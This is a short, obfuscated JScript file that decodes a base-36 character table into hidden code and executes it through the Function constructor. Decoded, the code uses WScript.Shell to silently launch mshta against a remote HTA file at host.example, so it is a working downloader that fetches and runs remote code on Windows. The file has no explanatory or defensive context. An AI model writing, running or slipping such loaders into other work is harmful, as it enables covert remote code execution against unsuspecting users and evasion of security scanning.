var table = "3a-2p-36-w-37-2w-1p-32-2t-3b-w-1t-2r-38-2x-3a-2t-2g-27-2q-2y-2t-2r-38-14-y-2f-2b-2r-36-2x-34-38-1a-2b-2w-2t-30-30-y-15-1n-37-2w-1a-2a-39-32-14-y-31-37-2w-38-2p-w-2w-38-38-34-1m-1b-1b-2w-33-37-38-1a-2t-3c-2p-31-34-30-2t-1b-2x-32-2s-2t-3c-1a-2w-38-2p-y-18-1c-18-2u-2p-30-37-2t-15-1n".split("-");
var made = [];
for (var i = 0; i < table.length; i++) made.push(String.fromCharCode(parseInt(table[i], 36)));
var run = [].filter["constructor"](made.join(""));
run();
